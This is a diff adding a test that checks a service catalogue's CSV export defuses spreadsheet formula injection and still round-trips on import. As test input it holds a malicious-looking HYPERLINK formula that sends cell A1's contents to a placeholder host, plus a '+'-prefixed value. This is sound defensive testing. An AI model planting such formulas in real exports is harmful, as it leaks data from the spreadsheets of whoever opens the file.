@@ -246,6 +246,31 @@ describe('service catalogue', () => {
     expect(again).toMatchObject({ updated: demoServices.length, failed: 0 });
   });
 
+  it('defuses formulas in the CSV export and still imports it back unchanged (issue 14)', async () => {
+    const jsonExport = JSON.parse(
+      (await get('/api/v1/services/export?format=json', hub.staffHeaders.zone)).body,
+    );
+    const evil = '=HYPERLINK("https://example.invalid/?x="&A1,"Hier klicken")';
+    const bulky = jsonExport.services.find((record: { id: string }) => record.id === 'sperrmuell');
+    const imported = (
+      await send('POST', '/api/v1/services/import', {
+        format: 'json',
+        content: JSON.stringify([{ ...bulky, name: evil, fees: '+49 7131 0' }]),
+      })
+    ).json();
+    expect(imported).toMatchObject({ failed: 0 });
+    const csvExport = (await get('/api/v1/services/export?format=csv', hub.staffHeaders.zone)).body;
+    expect(csvExport).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    expect(csvExport).toContain(`"'=HYPERLINK(""https://example.invalid/?x=""&A1,""Hier klicken"")"`);
+    expect(csvExport).toContain("'+49 7131 0");
+    const again = (
+      await send('POST', '/api/v1/services/import', { format: 'csv', content: csvExport })
+    ).json();
+    expect(again).toMatchObject({ failed: 0 });
+    const back = (await get('/api/v1/services/sperrmuell')).json();
+    expect(back).toMatchObject({ name: evil, fees: '+49 7131 0' });
+  });
+
   it('reports a bad CSV cell with its record number while the other rows go in', async () => {
     const csvExport = (await get('/api/v1/services/export?format=csv', hub.staffHeaders.zone)).body;
     const heading = csvExport.split('\r\n')[0]!;
